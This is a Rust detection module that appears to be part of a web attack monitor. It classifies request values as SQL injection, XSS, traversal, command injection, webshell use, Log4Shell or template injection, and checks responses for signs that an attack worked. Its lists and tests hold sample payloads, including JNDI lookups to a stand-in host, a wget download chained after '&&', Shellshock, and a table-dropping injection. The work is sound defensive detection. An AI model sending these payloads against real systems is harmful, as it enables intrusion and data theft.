//! The shapes of attacks, looked for in decoded values, and marks of success in answers.

/// Where a value stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Place {
    /// Bytes that are no text: a form that was encrypted or compressed.
    Bytes,
    /// Content that is no form: code, JSON, XML, files.
    Code,
    /// A header field.
    Field,
    Parameter,
    Path,
}

/// A shape that was found.
#[derive(Debug, Default)]
pub(super) struct Hit {
    pub code: &'static str,
    /// A mark of success.
    pub worked: Option<String>,
    /// Host and port that a lookup names.
    pub lookup: Option<(String, u16)>,
}

/// Rounds of folding lookups within lookups.
const FOLDS: usize = 64;

/// Commands that attackers try first.
const COMMANDS: &[&str] = &[
    "bash",
    "cat",
    "cmd",
    "curl",
    "dir",
    "echo",
    "id",
    "ifconfig",
    "ipconfig",
    "ls",
    "nc",
    "netcat",
    "nslookup",
    "perl",
    "ping",
    "powershell",
    "python",
    "rm",
    "sh",
    "sleep",
    "tftp",
    "uname",
    "wget",
    "whoami",
];

/// Errors of databases.
const SQL_ERRORS: &[&str] = &[
    "you have an error in your sql syntax",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "ora-00933",
    "ora-01756",
    "pg_query()",
    "mysql_fetch",
    "mysqli_sql_exception",
    "sqlite3.operationalerror",
    "syntax error at or near",
    "odbc sql server driver",
    "sqlstate[",
];

/// What a value is, if it is the shape of an attack; `uri` as told, `response` in small letters, `ok`: it was answered 200.
pub(super) fn shape(text: &str, place: Place, uri: &[u8], response: &str, ok: bool) -> Option<Hit> {
    let mark = |marks: &[&str]| marks.iter().find(|m| ok && response.contains(**m)).map(|m| (*m).to_owned());
    if let Some(lookup) = jndi(text) {
        return Some(Hit { code: "log4shell", lookup: Some(lookup), ..Hit::default() });
    }
    if place == Place::Code || place == Place::Bytes && !is_traversal(text, place) {
        return None;
    }
    let output = || command_output(response).filter(|_| ok);
    if place == Place::Parameter
        && is_webshell(uri)
        && is_command(text)
        && let Some(output) = output()
    {
        return Some(Hit { code: "webshell", worked: Some(output), ..Hit::default() });
    }
    if place != Place::Bytes && is_cmd(text, place) {
        return Some(Hit { code: "cmd", worked: output(), ..Hit::default() });
    }
    if is_traversal(text, place) {
        let worked = mark(&["root:x:0:", "[extensions]", "for 16-bit app support", "-----begin rsa private key"]);
        return Some(Hit { code: "traversal", worked, ..Hit::default() });
    }
    if place == Place::Field {
        return None;
    }
    if is_sqli(text) {
        return Some(Hit { code: "sqli", worked: mark(SQL_ERRORS), ..Hit::default() });
    }
    if is_xss(text) {
        return Some(Hit { code: "xss", ..Hit::default() });
    }
    let result = template(text)?;
    // The result must not stand there anyhow: small numbers do.
    let worked = result.filter(|r| ok && r.len() >= 4 && response.contains(r.as_str()) && !text.contains(r.as_str()));
    Some(Hit { code: "template", worked, ..Hit::default() })
}

/// `${jndi:ldap://host:port/…}` with its disguises: `${lower:j}`, `${::-j}`, `${env:x:-j}`.
fn jndi(text: &str) -> Option<(String, u16)> {
    if !text.contains("${") {
        return None;
    }
    let mut text = text.to_owned();
    for _ in 0..FOLDS {
        // The innermost lookup: the last opening before the first closing.
        let Some((start, end)) = innermost(&text) else { break };
        let Some(inner) = text.get(start + 2..end) else { break };
        if inner.starts_with("jndi:") {
            break;
        }
        let plain = match (inner.split_once(":-"), inner.split_once(':')) {
            (Some((_, default)), _) => default.to_owned(),
            (None, Some(("lower" | "upper", value))) => value.to_owned(),
            _ => String::new(),
        };
        text.replace_range(start..=end, &plain);
    }
    let rest = text.get(text.find("${jndi:")? + 7..)?;
    let (scheme, rest) = rest.split_once(':')?;
    if !matches!(scheme, "ldap" | "ldaps" | "rmi" | "dns" | "iiop" | "http" | "https" | "corba" | "nis" | "nds") {
        return None;
    }
    let rest = rest.trim_start_matches('/');
    let authority = rest.split(['/', '}', '?', '#']).next().unwrap_or("");
    let (host, port) = authority.rsplit_once(':').unwrap_or((authority, ""));
    Some((host.trim_matches(['[', ']']).to_owned(), port.parse().unwrap_or(0)))
}

fn innermost(text: &str) -> Option<(usize, usize)> {
    let mut from = 0;
    loop {
        let end = from + text.get(from..)?.find('}')?;
        if let Some(start) = text.get(..end)?.rfind("${") {
            return Some((start, end));
        }
        from = end + 1;
    }
}

/// A word that stands at the beginning and ends there as a shell has it.
fn is_word(text: &str, word: &str) -> bool {
    let ends = |rest: &str| {
        let blank_or_sign = |c: char| c.is_whitespace() || ";|&)`<>#$'\"\\".contains(c);
        rest.is_empty() || rest.starts_with(blank_or_sign)
    };
    text.strip_prefix(word).is_some_and(ends)
}

fn is_command(text: &str) -> bool {
    let text = text.trim_start();
    let name = text.strip_prefix("/bin/").or_else(|| text.strip_prefix("/usr/bin/")).unwrap_or(text);
    COMMANDS.iter().any(|c| is_word(name, c))
}

/// A shell's separator before a command. In paths and fields only what stands nowhere else.
fn is_cmd(text: &str, place: Place) -> bool {
    if place == Place::Field && text.contains("() {") {
        return true;
    }
    let separators: &[&str] = if place == Place::Parameter { &[";", "|", "&&", "$(", "`", "\n"] } else { &["$(", "`"] };
    separators.iter().any(|s| {
        text.match_indices(s).any(|(at, _)| {
            let behind = text.get(at + s.len()..).unwrap_or("").trim_start_matches(['|', '&', ' ']);
            // A word behind a semicolon is text; a command has arguments, a path or an end.
            let strict = is_command(behind);
            let argument = behind.split_once(' ').map_or("", |(_, a)| a);
            let ends = behind.split([' ', ';', '|', '&', ')', '`', '#', '<', '>']).next() == Some(behind.trim_end());
            strict
                && (*s == "$("
                    || *s == "`"
                    || ends
                    || argument.starts_with(['-', '/', '.'])
                    || behind.contains(['/', '|', ';', '>']))
        })
    })
}

fn is_traversal(text: &str, place: Place) -> bool {
    let steps =
        ["../../", "..\\..\\", "../..\\", "..//..//", "....//....//", "..;/..;/"].iter().any(|s| text.contains(s));
    let files = [
        "/etc/passwd",
        "/etc/shadow",
        "win.ini",
        "boot.ini",
        "/proc/self/",
        "php://filter",
        "php://input",
        "file:///",
        "expect://",
    ];
    // Fields such as Referer may name files.
    steps || place != Place::Field && files.iter().any(|f| text.contains(f))
}

fn is_xss(text: &str) -> bool {
    if text.contains("<script") || text.trim_start().starts_with("javascript:") || text.contains("=javascript:") {
        return true;
    }
    // An event handler in a tag.
    text.split('<').skip(1).any(|tag| {
        let tag = tag.split('>').next().unwrap_or(tag);
        let starts = tag.starts_with(|c: char| c.is_ascii_alphabetic());
        starts
            && tag.match_indices("on").any(|(at, _)| {
                let before = tag.get(..at).and_then(|t| t.chars().last());
                let name = tag.get(at + 2..).unwrap_or("");
                let letters = name.chars().take_while(char::is_ascii_alphabetic).count();
                let then = name.get(letters..).unwrap_or("").trim_start();
                matches!(before, Some(' ' | '/' | '"' | '\'')) && letters >= 3 && then.starts_with('=')
            })
    })
}

/// Two weak signs or a strong one.
fn is_sqli(text: &str) -> bool {
    let has = |part: &str| text.contains(part);
    let union = text.match_indices("union").any(|(at, _)| {
        let rest = text.get(at + 5..).unwrap_or("").trim_start_matches([' ', '(', '+']);
        let rest = rest
            .strip_prefix("all")
            .or_else(|| rest.strip_prefix("distinct"))
            .unwrap_or(rest)
            .trim_start_matches([' ', '(']);
        let select = rest.starts_with("select") || rest.starts_with("/*!") && rest.contains("select");
        // Behind the union's word there are columns.
        select && rest.len() > "select ".len()
    });
    let delay = ["sleep(", "benchmark(", "pg_sleep("].iter().any(|call| {
        text.match_indices(call)
            .any(|(at, _)| text.get(at + call.len()..).is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit())))
    });
    if union || delay || has("waitfor delay") || tautology(text) {
        return true;
    }
    let quote = text.contains('\'') || text.contains('"');
    let ends_in_comment = quote && (text.trim_end().ends_with("--") || text.trim_end().ends_with('#') || has("-- "));
    let after_quote =
        ["' or ", "' and ", "'or ", "' || ", "\" or ", "') or ", "' order by ", "' group by ", "' having "];
    let stacked = [
        "; drop ",
        ";drop ",
        "; insert ",
        ";insert ",
        "; update ",
        ";update ",
        "; exec",
        ";exec",
        ";select ",
        "; delete ",
        ";delete ",
    ];
    let signs = [
        ends_in_comment,
        after_quote.iter().any(|a| has(a)),
        stacked.iter().any(|s| has(s)),
        has("information_schema"),
        text.match_indices("/*!")
            .any(|(at, _)| text.get(at + 3..).is_some_and(|r| r.starts_with(|c: char| c.is_ascii_digit()))),
        has("xp_cmdshell"),
        has("load_file("),
        has("into outfile"),
        has("concat(") && has("select "),
        has("extractvalue(") || has("updatexml("),
    ];
    signs.iter().filter(|s| **s).count() >= 2
}

/// `' or 1=1`, `1 and 'a'='a`: behind a quote or digit two sides that are the same.
fn tautology(text: &str) -> bool {
    ["or", "and", "||", "&&"].iter().any(|word| {
        text.match_indices(word).any(|(at, _)| {
            let before = text.get(..at).unwrap_or("").trim_end_matches([' ', ')', '(']);
            let opens = before.ends_with(|c: char| c.is_ascii_digit() || matches!(c, '\'' | '"'));
            let behind = text.get(at + word.len()..).unwrap_or("");
            let starts = behind.starts_with([' ', '(', '\'', '"'])
                || before.len() < at && behind.starts_with(|c: char| c.is_ascii_digit());
            let Some((left, right)) = behind.split_once('=') else { return false };
            let plain = |s: &str| s.trim_matches([' ', '\'', '"', '(', ')']).to_owned();
            let right = right.trim_start_matches([' ', '\'', '"', '(']);
            let right: String = right.chars().take_while(|c| c.is_alphanumeric()).collect();
            let left = plain(left);
            opens && starts && !left.is_empty() && left.len() <= 16 && left == right
        })
    })
}

/// Arithmetic in a template's brackets: the result, if it can be told.
fn template(text: &str) -> Option<Option<String>> {
    if text.contains("${t(java") || text.contains("#{t(java") || text.contains("__class__") && text.contains("{{") {
        return Some(None);
    }
    [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>")].iter().find_map(|(open, close)| {
        let inner = text.split_once(open)?.1.split_once(close)?.0.trim();
        let (left, right) = inner.split_once('*')?;
        let number = |s: &str| s.trim().trim_matches('\'').parse::<u64>().ok();
        let (left, right) = (number(left)?, number(right)?);
        Some(left.checked_mul(right).map(|r| r.to_string()))
    })
}

fn is_webshell(uri: &[u8]) -> bool {
    let uri = String::from_utf8_lossy(uri).to_lowercase();
    let (path, query) = uri.split_once('?').unwrap_or((&uri, ""));
    let script = [".php", ".jsp", ".jspx", ".aspx", ".asp", ".cgi", ".pl"].iter().any(|e| path.ends_with(e));
    let named =
        query.split('&').any(|p| matches!(p.split('=').next(), Some("cmd" | "exec" | "pass" | "command" | "c")));
    script && named
}

/// Words that commands write and pages seldom have.
fn command_output(response: &str) -> Option<String> {
    let id = response.match_indices("uid=").find_map(|(at, _)| {
        let line = response.get(at..)?.lines().next()?;
        let digits = line.get(4..)?.chars().take_while(char::is_ascii_digit).count();
        (digits > 0 && line.contains("gid=") && line.get(4 + digits..)?.starts_with('('))
            .then(|| line.chars().take(80).collect())
    });
    let others = ["root:x:0:", " volume serial number is ", "windows ip configuration", "nt authority\\system"];
    id.or_else(|| others.iter().find(|m| response.contains(**m)).map(|m| (*m).to_owned()))
}

#[cfg(test)]
mod tests {
    use super::super::decode::decoded;
    use super::*;

    fn code(value: &str, place: Place) -> &'static str {
        shape(&decoded(value.as_bytes()), place, b"/a", "", true).map_or("", |h| h.code)
    }

    #[test]
    fn shapes() {
        for (value, want) in [
            ("1' or '1'='1", "sqli"),
            ("1 or 1=1", "sqli"),
            ("1) AND (3=3", "sqli"),
            ("-1 UNION/**/ALL SELECT 1,2,user()", "sqli"),
            ("1;waitfor delay '0:0:5'", "sqli"),
            ("1 and sleep(5)", "sqli"),
            ("x'; drop table users--", "sqli"),
            ("<script>alert(1)</script>", "xss"),
            ("%3Cimg%20src=x%20onerror=alert(1)%3E", "xss"),
            ("javascript:alert(1)", "xss"),
            ("../../../../etc/hosts", "traversal"),
            ("..%252f..%252fx", "traversal"),
            ("/etc/passwd", "traversal"),
            ("php://filter/convert.base64-encode/resource=x", "traversal"),
            (";cat /etc/hosts", "cmd"),
            ("127.0.0.1|id", "cmd"),
            ("$(whoami)", "cmd"),
            ("a&&wget http://x/y", "cmd"),
            ("${jndi:ldap://192.0.2.1:1389/a}", "log4shell"),
            ("${${lower:j}${::-n}di:${lower:r}mi://a.test/x}", "log4shell"),
            ("{{7*7}}", "template"),
            ("${T(java.lang.Runtime)}", "template"),
        ] {
            assert_eq!(code(value, Place::Parameter), want, "{value}");
        }
        assert_eq!(code("() { :; }; /bin/ping x", Place::Field), "cmd");
        assert_eq!(code("${jndi:dns://x}", Place::Code), "log4shell");
    }

    #[test]
    fn ordinary_text() {
        for value in [
            "how do I select a name from a table?",
            "it's 5 or 6 o'clock",
            "rock and roll = fun",
            "O'Brien and sons",
            "a; then we cat the dog",
            "tea | id card",
            "../style.css",
            "price <b>5</b> on sale",
            "https://example.test/?next=/a",
            "${name}",
            "{{ user.name }}",
            "union of european select committees",
            "function on(x) { return x; }",
            "sleep(well)",
        ] {
            assert_eq!(code(value, Place::Parameter), "", "{value}");
        }
        assert_eq!(code("select 1; drop table x; <script>", Place::Code), "");
        assert_eq!(code("/a;jsessionid=1", Place::Path), "");
        assert_eq!(code("/../a/b/../c/./d.html", Place::Path), "");
    }

    #[test]
    fn marks_of_success() {
        let worked = |value: &str, uri: &str, response: &str| {
            shape(&decoded(value.as_bytes()), Place::Parameter, uri.as_bytes(), response, true).and_then(|h| h.worked)
        };
        assert!(worked("../../etc/passwd", "/a", "root:x:0:0:root").is_some());
        assert!(worked("1' or 1=1--", "/a", "you have an error in your sql syntax").is_some());
        assert!(worked("id", "/up/s.php?cmd=id", "uid=33(www-data) gid=33(www-data)").is_some());
        assert_eq!(worked("id", "/up/s.php?cmd=id", "<html>"), None);
        assert_eq!(worked("{{1337*1338}}", "/a", "hello 1788906"), Some("1788906".into()));
        assert_eq!(worked("{{7*7}}", "/a", "49"), None);
        let refused = shape("../../etc/passwd", Place::Path, b"/", "root:x:0:", false).unwrap();
        assert_eq!(refused.worked, None);
        let lookup = shape("${jndi:ldap://192.0.2.1:1389/a}", Place::Field, b"/", "", false).unwrap().lookup;
        assert_eq!(lookup, Some(("192.0.2.1".to_owned(), 1389)));
    }

    #[test]
    fn limits_folding() {
        assert!(jndi(&"${".repeat(500)).is_none());
        assert!(jndi(&"${a}".repeat(400)).is_none());
    }
}
